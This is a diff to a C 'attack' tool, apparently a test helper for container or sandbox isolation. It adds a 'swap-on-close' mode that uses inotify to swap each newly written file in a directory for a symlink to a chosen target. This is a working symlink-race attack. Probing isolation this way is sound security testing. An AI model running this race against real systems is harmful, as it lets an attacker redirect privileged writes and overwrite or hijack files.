@@ -5,12 +5,15 @@
 //   attack watch-root PATH SECS  for SECS seconds, every other process's /proc/N/root/PATH:
 //                              "reached N" when one opens (a process still in the host's root),
 //                              "privileged N" when one holds a capability the watcher lacks
+//   attack swap-on-close DIR LINK SECS  once DIR exists, each file written in it replaced by a
+//                              symlink to LINK as soon as its writer closes it: "swapped N"
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/inotify.h>
 #include <sys/stat.h>
 #include <time.h>
 #include <unistd.h>
@@ -106,6 +109,29 @@ static int watch_root(const char *target, int secs)
 	return 0;
 }
 
+static int swap_on_close(const char *dir, const char *link, int secs)
+{
+	time_t end = time(NULL) + secs;
+	printf("ready\n");
+	int in = inotify_init1(IN_NONBLOCK | IN_CLOEXEC), dfd = -1;
+	while (time(NULL) < end && inotify_add_watch(in, dir, IN_CLOSE_WRITE) < 0) {
+	}
+	dfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	long swapped = 0;
+	char buf[65536];
+	while (dfd >= 0 && time(NULL) < end) {
+		ssize_t n = read(in, buf, sizeof buf);
+		for (char *p = buf; n > 0 && p < buf + n;) {
+			struct inotify_event *e = (struct inotify_event *)p;
+			if (e->len && unlinkat(dfd, e->name, 0) == 0 && symlinkat(link, dfd, e->name) == 0)
+				swapped++;
+			p += sizeof *e + e->len;
+		}
+	}
+	printf("swapped %ld\n", swapped);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -113,6 +139,8 @@ int main(int argc, char **argv)
 		return pid1_exe(argv[2]);
 	if (argc == 4 && strcmp(argv[1], "watch-root") == 0)
 		return watch_root(argv[2], atoi(argv[3]));
-	fprintf(stderr, "usage: attack pid1-exe PID | watch-root PATH SECS\n");
+	if (argc == 5 && strcmp(argv[1], "swap-on-close") == 0)
+		return swap_on_close(argv[2], argv[3], atoi(argv[4]));
+	fprintf(stderr, "usage: attack pid1-exe PID | watch-root PATH SECS | swap-on-close DIR LINK SECS\n");
 	return 2;
 }
